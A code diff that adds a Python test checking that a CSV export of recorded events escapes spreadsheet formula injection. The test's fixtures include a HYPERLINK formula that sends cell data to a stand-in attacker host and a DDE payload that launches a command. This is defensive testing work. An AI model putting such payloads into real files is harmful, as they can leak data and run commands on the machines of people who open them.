@@ -55,6 +55,22 @@ def test_the_feed_is_every_event_in_clock_order_whatever_the_storage_order() -> 
     assert data.count(b"\n") == len(s.events)
 
 
+def test_recorded_text_never_reaches_a_spreadsheet_as_a_formula() -> None:
+    s = Stamper()
+    link = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
+    s.make("note", "B", text=link, station="+cmd|' /C calc'!A0")
+    s.make("note", "B", text="RAS: -5 °C", station="@poste")
+    s.make("set.dispatched", "B", set="S1", to="-2+3")
+    notes = list(csv.DictReader(io.StringIO(feed_csv(s.events, "note"))))
+    assert [(n["text"], n["station"]) for n in notes] == [
+        ("'" + link, "'+cmd|' /C calc'!A0"),
+        ("RAS: -5 °C", "'@poste"),
+    ]
+    (sent,) = csv.DictReader(io.StringIO(feed_csv(s.events, "set.dispatched")))
+    assert sent["to"] == "'-2+3"
+    assert json.loads(feed_bytes(s.events).split(b"\n")[0])["text"] == link  # JSON: as recorded
+
+
 def test_csv_of_one_type_with_a_stable_column_order() -> None:
     s = Stamper()
     process(s, ["S1", "S2"], use=False)
